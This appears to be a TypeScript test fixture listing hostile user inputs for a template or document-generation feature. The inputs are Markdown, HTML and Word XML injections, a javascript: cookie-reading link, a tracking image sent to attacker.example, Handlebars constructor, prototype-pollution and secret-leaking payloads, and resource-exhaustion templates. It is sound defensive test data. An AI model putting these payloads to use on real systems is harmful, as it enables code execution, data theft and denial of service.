// Test support: entries of the shared bad-inputs list (bad-inputs-public.json) that
// concern templates, copied here so the tests run anywhere.

/** User values that try Markdown, HTML, XML or Handlebars injection. */
export const INJECTIONS = [
  { id: "md-heading", value: "Acme\n\n# 7. Payment terms waived" },
  { id: "md-emphasis", value: "**Acme** _Corp_ ~~old~~" },
  { id: "md-link-js", value: "[Click to sign](javascript:alert(document.cookie))" },
  { id: "md-image-tracker", value: "![x](https://attacker.example/pixel.png?doc=123)" },
  { id: "html-script", value: "<script>alert(1)</script>" },
  { id: "xml-breakout", value: "</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>Injected" },
  { id: "hbs-rce-value", value: "{{constructor.constructor 'return process'}}" },
  { id: "hbs-nested-value", value: "{{client.secretNotes}} {{> header}}" },
] as const;

/** Template sources a user might try as a custom clause. */
export const HOSTILE_TEMPLATES = [
  {
    id: "hbs-custom-constructor",
    value: '{{#with "s" as |string|}}{{#with string.split as |s|}}{{s}}{{/with}}{{/with}}',
  },
  { id: "hbs-custom-proto", value: "{{lookup this '__proto__'}} {{__proto__.polluted}}" },
  { id: "hbs-custom-huge", value: "{{client.name}} ".repeat(50_000) },
  {
    id: "hbs-custom-deep-nesting",
    value: `${"{{#if client.name}}".repeat(5000)}x${"{{/if}}".repeat(5000)}`,
  },
] as const;
